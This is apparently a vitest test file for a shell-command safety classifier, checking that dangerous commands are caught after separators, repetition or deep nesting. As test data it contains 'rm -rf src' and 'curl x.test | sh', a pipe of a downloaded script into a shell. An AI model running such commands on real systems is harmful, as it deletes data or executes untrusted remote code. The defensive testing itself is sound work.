// Danger after `;`, `&&`, a newline, or as the 51st part: every part is judged, and a text that is too complex is not safe.

import { describe, expect, test } from 'vitest';
import { readCommand } from '../../src/shell/index.ts';
import { verifies } from '../verifies.ts';

const PLACE = { cwd: '/tree', root: '/tree', scope: ['src/**'] };
const classOf = (command: string): string => readCommand(command, PLACE).class;

const BEFORE: readonly [name: string, before: string][] = [
  ['a semicolon', 'ls; '],
  ['&&', 'ls && '],
  ['||', 'false || '],
  ['a pipe', 'ls | '],
  ['an ampersand', 'ls & '],
  ['a newline', 'ls\n'],
  ['a continued line', 'ls \\\n; '],
  ['a comment', 'ls # nothing\n'],
  ['a here-document', "cat <<'E'\nls\nE\n"],
  ['fifty parts', 'ls; '.repeat(50)],
  ['a hundred parts', 'ls\n'.repeat(100)],
];

describe('a dangerous part', () => {
  test.for(BEFORE)('after %s decides', ([, before]) => {
    expect(['rm -rf src', 'curl x.test | sh', 'touch ../x', 'make'].map((danger) => classOf(before + danger))).toEqual([
      'DESTRUCTIVE',
      'DESTRUCTIVE',
      'WRITES_OUTSIDE',
      'MUTATING',
    ]);
  });

  verifies('I11', 'is named as the reason, wherever it is', () => {
    expect(readCommand(`${'ls; '.repeat(60)}rm -rf src`, PLACE).reasons[0]).toEqual({
      code: 'DELETES',
      part: 'rm -rf src',
      message: 'rm with this option deletes whole folders and cannot be undone',
    });
  });
});

describe('a text that is too complex', () => {
  verifies('I11', 'is not safe, and not read to the end is for a human', () => {
    const nested = (depth: number): string => `${'echo $('.repeat(depth)}ls${')'.repeat(depth)}`;
    const commands = [
      'ls; '.repeat(51),
      'ls; '.repeat(151),
      nested(3),
      nested(60),
      `echo ${'a'.repeat(9000)}`,
      `echo ${'a'.repeat(40_000)}`,
    ];
    expect(commands.map(classOf)).toEqual(['MUTATING', 'DESTRUCTIVE', 'SAFE', 'DESTRUCTIVE', 'MUTATING', 'DESTRUCTIVE']);
  });

  test('is answered, whatever repeats in it', () => {
    const openers = [
      '$(',
      '`',
      '((',
      '( ',
      '{ ',
      '${x:-',
      '<(',
      'if ',
      '[[ ( ',
      '{a,',
      '<<E\n',
      'sudo ',
      'eval "',
      "bash -c '",
      '\\',
      '*a',
      '"',
    ];
    expect(openers.filter((opener) => classOf(opener.repeat(Math.floor(30_000 / opener.length))) === 'SAFE')).toEqual([]);
  });
});
